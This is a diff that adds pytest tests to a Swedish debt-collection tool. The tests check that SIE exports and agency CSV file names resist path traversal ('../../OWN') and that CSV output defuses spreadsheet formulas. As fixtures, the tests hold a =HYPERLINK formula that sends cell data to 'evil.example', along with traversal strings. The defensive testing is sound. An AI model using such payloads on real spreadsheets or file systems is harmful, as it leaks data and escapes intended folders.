@@ -8,14 +8,25 @@ built from data goes through ``fileio.name_part`` and ``fileio.file_in``.
 
 from __future__ import annotations
 
+import csv
+import datetime as dt
+import io
+import json
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
 
+from tests.collection_samples import CREDITOR, PERSON, case
 from tests.conftest import SHARED_DOCS
+from tui_inkasso.db.models import Owner, Voucher, VoucherRow
 from tui_inkasso.fileio import FileNameError, file_in, identifier_problem, name_part
+from tui_inkasso.formats.case_file import render_case_file, write_case_file
+from tui_inkasso.formats.layout import builtin_layout_path, parse_layout
 from tui_inkasso.formats.ledger_json import parse_json, read_ledger
+from tui_inkasso.formats.text import FORMULA_TRIGGERS
+from tui_inkasso.services.sie_export import export_sie
 
 TRAVERSAL = "/../../../../x/\x1b"
 
@@ -72,3 +83,39 @@ def test_the_ledger_reader_strips_control_characters_and_escape_sequences_from_n
     assert problems == [] or all(not p.path.startswith("customers[0]") for p in problems)
     customer = ledger.customers[0]
     assert (customer.name, customer.address) == ("Anna Svensson", "Storgatan 1")
+
+
+def test_sie_export_with_an_owner_code_stored_before_the_check_writes_inside_its_folder(
+    sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("TUI_INKASSO_TODAY", "2026-11-28")
+    owner = Owner.create(code="../../OWN", name="Ägare AB", org_no="556677-8899")
+    voucher = Voucher.create(owner=owner, number=1, date=dt.date(2026, 9, 30), text="hyra", source="manual",
+                             created_at=dt.datetime(2026, 9, 30, 12))
+    VoucherRow.insert_many([{"voucher": voucher.id, "account": "1930", "amount": 100},
+                            {"voucher": voucher.id, "account": "1510", "amount": -100}]).execute()
+    folder = tmp_path / "a" / "b" / "sie"
+    result = export_sie(folder, from_date=dt.date(2026, 9, 1), to_date=dt.date(2026, 9, 30))
+    assert [f.path for f in result.files] == [folder / "OWN_20260901_20260930.si"]
+    assert sorted(p.name for p in tmp_path.rglob("*.si")) == ["OWN_20260901_20260930.si"]
+
+
+def test_an_agency_file_name_from_a_client_number_stays_inside_its_folder(tmp_path: Path) -> None:
+    document = json.loads(builtin_layout_path("svea").read_text(encoding="utf-8"))
+    document["file_name"] = "SVEA_{client}_{created:%Y%m%d}.csv"
+    layout = parse_layout(document, "test")
+    creditor = replace(CREDITOR, agency_customer_number="../../x")
+    folder = tmp_path / "a" / "b"
+    folder.mkdir(parents=True)
+    path = write_case_file(folder, [case(creditor=creditor)], layout, created_at=dt.datetime(2026, 11, 28))
+    assert path == folder / "SVEA_x_20261128.csv"
+
+
+def test_the_svea_csv_defuses_names_a_spreadsheet_would_run_as_formulas() -> None:
+    debtor = replace(PERSON, name='=HYPERLINK("http://evil.example/?"&A1;"Klicka")', address="+46 8 123",
+                     city="@SUM(A1)")
+    data = render_case_file([case(debtor=debtor)], "svea", created_at=dt.datetime(2026, 11, 28))
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=";"))
+    assert rows[1][5] == '\'=HYPERLINK("http://evil.example/?"&A1;"Klicka")'
+    assert (rows[1][6], rows[1][8]) == ("'+46 8 123", "'@SUM(A1)")
+    assert all(not value.startswith(FORMULA_TRIGGERS) for row in rows for value in row[1:] if value[:1] != "-")
